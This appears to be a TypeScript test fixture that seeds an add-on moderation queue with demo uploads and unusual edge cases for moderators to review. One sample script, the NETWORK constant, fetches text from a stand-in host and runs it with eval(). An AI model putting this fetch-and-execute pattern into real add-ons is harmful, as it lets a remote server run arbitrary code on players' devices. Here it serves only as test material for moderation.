// The queue of a long day: half of it like the demo's add-ons, half of it odd ones.
import { createClient } from '@sandcrate/api/contract/client.ts';
import { catalogue } from '../demo/catalogue/catalogue.ts';
import { mediaOf } from '../demo/media.ts';
import { packFile } from '../demo/packs/pack.ts';
import { update, upload } from '../demo/publishing.ts';
import { approve, createPublisher, logIn, succeed, uploadAddon } from './api.ts';
import { inGroups, itemKinds, type Stage, scriptedPack } from './desk-items.ts';
import type { InputFile } from './input.ts';
import { smallPack, smallPicture } from './small-files.ts';

/** Something that waits for a decision. */
export type DayItem = {
  id: string;
  title: string;
  /** The proposed change, if it is a change to a live add-on. */
  changeId?: string | undefined;
  /** The session of its publisher. */
  token: string;
  /** The username of its publisher, if it is the only item of theirs. */
  only?: string;
  /** Whether a moderator has left it to the other one. */
  isLeft?: boolean;
};

/** The demo's publishers have an address of their own, because one address may not upload so much in an hour. */
export const BEHIND_PROXY = { TRUST_PROXY: 'loopback' };
const ADDRESS = '203.0.113.7';

/** The demo's pictures are scaled down to this share of their size. */
const SCALE = 0.25;
/** One of so many items of the demo is an update of a live add-on. */
const UPDATES = 5;

/** The longest title and description that the site takes. */
const LONGEST_TITLE = 100;
const LONGEST_DESCRIPTION = 2000;

/** The copies come last, because it takes up to a minute until they are known as copies. */
const ODD = ['arabic', 'alone', 'longest', 'network', 'text', 'minified', 'rule', 'file', 'emoji', 'huge', 'bare', 'copy'] as const; // biome-ignore format: a list of names

const NETWORK = `import { http } from '@minecraft/server-net';
import { world } from '@minecraft/server';
http.get('https://example.com/orders').then(({ body }) => eval(body));
world.say('Hello');`;

/** One line of many functions. */
const minified = () =>
  Array.from({ length: 1500 }, (_, n) => `function f${n}(a,b){return a?b+${n}:f${n >> 1}(b,a)}`).join('');

/**
 * Fills the queue: demo-like and odd items in turn.
 * @returns the items, about in the order in which they wait
 */
export async function dayItems(stage: Stage, count: number): Promise<DayItem[]> {
  const { site, maker } = stage;
  const { add, copiesFound } = await itemKinds(stage);
  const banner = await smallPicture();
  const sessions = new Map<string, Promise<string>>();

  /** The session of a publisher, who is created when first needed. */
  function publisher(username: string): Promise<string> {
    const known =
      sessions.get(username) ??
      createPublisher(site.url, site.owner, username).then((account) => logIn(site.url, account));
    sessions.set(username, known);
    return known;
  }

  const listed = catalogue().filter(({ file }) => file !== 'link');
  async function demoItem(index: number): Promise<DayItem> {
    const found = listed[index % listed.length];
    if (found === undefined) throw new Error('The demo has no add-ons.');
    const again = Math.floor(index / listed.length);
    const addon = again === 0 ? found : { ...found, title: `${found.title} ${again + 1}` };
    const { title, releases } = addon;
    const token = await publisher(addon.by);
    const client = createClient({
      baseUrl: site.url,
      token: () => token,
      send: (address, init) => {
        const headers = new Headers(init.headers);
        headers.set('x-forwarded-for', ADDRESS);
        return fetch(address, { ...init, headers });
      },
    });
    const media = await mediaOf(found, SCALE);
    const id = await upload(client, addon, media, await packFile(addon, releases[0].version, media.icon));
    const next = index % UPDATES === 2 ? releases[1] : undefined;
    if (next !== undefined) {
      await approve(site.url, site.owner, { id });
      await update(client, id, next, await packFile(addon, next.version, media.icon));
    }
    return { id, title, token };
  }

  async function oddItem(index: number): Promise<DayItem> {
    const kind = ODD[index % ODD.length] ?? 'bare';
    const token = maker();
    const named = async (
      title: string,
      file: InputFile = smallPack(title),
      description = 'Something odd for the moderators to decide about.',
      by = token,
    ) => {
      const texts = { title, description, category: 'tools', version: '1.0.0' };
      const { id } = await uploadAddon(site.url, by, { ...texts, file, banner });
      return { id, title, token: by };
    };
    switch (kind) {
      case 'arabic':
        return named(
          `سيوف الصحراء Desert Swords (${index}) ٣٫٠`,
          smallPack('swords'),
          'سيوف و a shield '.repeat(20),
        );
      case 'alone': {
        const only = `alone_${index}`;
        const title = `Alone ${index}`;
        return { ...(await named(title, smallPack(title), undefined, await publisher(only))), only };
      }
      case 'longest':
        return named(`Longest ${index} `.padEnd(LONGEST_TITLE, 'unbroken'));
      case 'network': {
        const modules = ['@minecraft/server', '@minecraft/server-net'];
        return named(`Network ${index}`, scriptedPack(`Network ${index}`, { script: NETWORK, modules }));
      }
      case 'minified':
        return named(`Minified ${index}`, scriptedPack(`Minified ${index}`, { script: minified() }));
      case 'emoji':
        return named(
          `👩‍🚀 Moon Boots 🌕 ${index}`,
          undefined,
          `A\u200bl\u200bl in the small print. ${'👩‍👩‍👧‍👦 e\u0301\u0323 '.repeat(40)}`,
        );
      case 'huge':
        return named(`Huge ${index}`, undefined, 'word '.repeat(LONGEST_DESCRIPTION / 5).trim());
      case 'bare':
        return named(`Bare ${index}`);
      default: {
        return { ...(await add(kind, `Odd ${index} (${kind})`)), token };
      }
    }
  }

  const items = await inGroups(count, (index) =>
    index % 2 === 0 ? demoItem(index >> 1) : oddItem(index >> 1),
  );
  await copiesFound(items);
  return inGroups(count, async (index) => {
    const item = items[index];
    if (item === undefined) throw new Error(`There is no item ${index}.`);
    const answer = await succeed(site.url, `GET /api/console/addons/${item.id}`, { token: site.owner });
    const { openChange }: { openChange?: { id: string } | null } = await answer.json();
    return { ...item, changeId: openChange?.id };
  });
}
